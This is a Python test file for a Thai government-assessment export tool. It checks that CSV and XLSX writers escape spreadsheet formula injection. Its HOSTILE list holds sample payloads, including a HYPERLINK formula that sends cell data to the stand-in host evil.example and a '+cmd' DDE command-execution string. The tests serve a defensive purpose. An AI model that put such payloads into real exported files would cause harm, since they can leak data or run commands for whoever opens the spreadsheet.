"""Exports that cannot run code: agency text that a spreadsheet would run as a formula (=HYPERLINK, +cmd, @SUM,
a leading tab or CR) leaves every CSV and XLSX writer as text with a single quote in front; numbers stay
numbers. The web exports (register, oversight, surveys) are in tests/web/test_exports_web.py."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from prongsai._table import spreadsheet_cell, spreadsheet_row
from prongsai.checker.run import SiteCheck, report_xlsx
from prongsai.checker.verdict import ItemCheck, Verdict
from prongsai.frameworks import get_framework
from prongsai.itas import ItasAnswer, itas_csv, itas_xlsx

SRC = Path(__file__).parents[1] / "src" / "prongsai"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_gets_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


def test_other_values_are_left_as_they_are() -> None:
    assert spreadsheet_row([12, -3.5, None, "", "ข้อความ", "a=b", " =1", "'=1"]) == [
        12, -3.5, None, "", "ข้อความ", "a=b", " =1", "'=1"
    ]  # fmt: skip


def _answers() -> dict[str, ItasAnswer]:
    return {
        "O1": ItasAnswer(True, (HOSTILE[0],), HOSTILE[1]),
        "O2": ItasAnswer(False, ("https://example.go.th/o2",), HOSTILE[2]),
        "O3": ItasAnswer(True, (), HOSTILE[4]),
    }


def _no_formulas(body: bytes) -> list[str]:
    """Every cell's text; fails on any formula cell."""
    book = openpyxl.load_workbook(io.BytesIO(body))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_the_itas_sheet_in_xlsx_holds_no_formula() -> None:
    texts = _no_formulas(itas_xlsx(get_framework(2566), _answers()))
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[1] in texts and "'" + HOSTILE[2] in texts
    assert "'" + HOSTILE[4] in texts


def test_the_itas_sheet_in_csv_prefixes_the_cells() -> None:
    rows = list(csv.reader(io.StringIO(itas_csv(get_framework(2566), _answers()).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells and "'" + HOSTILE[2] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_checkers_report_holds_no_formula() -> None:
    framework = get_framework(2566)
    check = ItemCheck(
        "O1", Verdict.OK, HOSTILE[2], "found", url=HOSTILE[0], final_url=HOSTILE[0], fetched_at="2026-01-01"
    )
    site = SiteCheck(framework, (check,), {}, "https://example.go.th/ita", "2026-01-01", "2026-01-01")
    texts = _no_formulas(report_xlsx(site))
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[2] in texts


def test_every_spreadsheet_writer_uses_the_rule() -> None:
    """A new CSV or XLSX writer in src/ must pass its cells through spreadsheet_row (or spreadsheet_cell)."""
    writer = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
    writers = [p for p in SRC.rglob("*.py") if writer.search(p.read_text(encoding="utf-8"))]
    assert len(writers) >= 4, writers
    missing = [str(p.relative_to(SRC)) for p in writers if "spreadsheet_" not in p.read_text(encoding="utf-8")]
    assert not missing, f"spreadsheet writers without prongsai._table.spreadsheet_row: {missing}"
